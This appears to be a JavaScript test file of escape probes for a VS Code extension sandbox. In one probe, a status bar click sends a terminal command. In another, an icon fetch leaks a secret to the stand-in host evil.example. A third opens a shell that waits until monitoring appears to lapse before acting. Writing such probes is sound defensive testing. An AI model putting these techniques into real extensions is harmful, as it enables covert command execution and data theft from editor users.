'use strict'

// What nobody has decided yet whether it should be stopped: README.md.

const { a } = require('../host/lib.js')
const r8 = more => ({ round: 8, ...more })

module.exports = [
  a('a command of the editor behind a click', async ({ vscode }) => {
    const i = vscode.window.createStatusBarItem()
    i.text = 'OK'
    i.command = { command: 'workbench.action.terminal.sendSequence', title: '', arguments: [{ text: 'id\n' }] }
    i.show()
    await new Promise(r => setTimeout(r, 300))
    return 'done'
  }, r8({ goal: 'call', call: 'MainThreadStatusBar.$setEntry' })),
  a('an address elsewhere that the workbench fetches as an icon', async ({ vscode }) => {
    vscode.window.createTextEditorDecorationType({ before: { contentIconPath: vscode.Uri.parse('https://evil.example/?secret') } })
    await new Promise(r => setTimeout(r, 300))
    return 'done'
  }, r8({ goal: 'call', call: 'MainThreadTextEditors.$registerTextEditorDecorationType' })),
  a('a program by a shell that it started while it was observed', async ({ vscode, require, T }) => {
    const sh = require('child_process').spawn('/bin/sh', [], { stdio: ['pipe', 'ignore', 'ignore'] })
    const raw = !require('fs').readdirSync(__dirname).includes('ringfence.main.cjs')
    let over = raw
    for (let i = 0; i < 60 && !over; i++) {
      await new Promise(r => setTimeout(r, 100))
      try { require('child_process').execFileSync('/bin/true') } catch { over = true }
    }
    if (over) sh.stdin.write('touch ' + T.mark + '\n')
    await new Promise(r => setTimeout(r, 500))
    return 'over ' + over
  }, r8({ goal: 'mark', config: { mode: 'observe', observeDays: 0.00002, tick: 200, extensionVersion: '1', policySha256: 'x' } })),
]
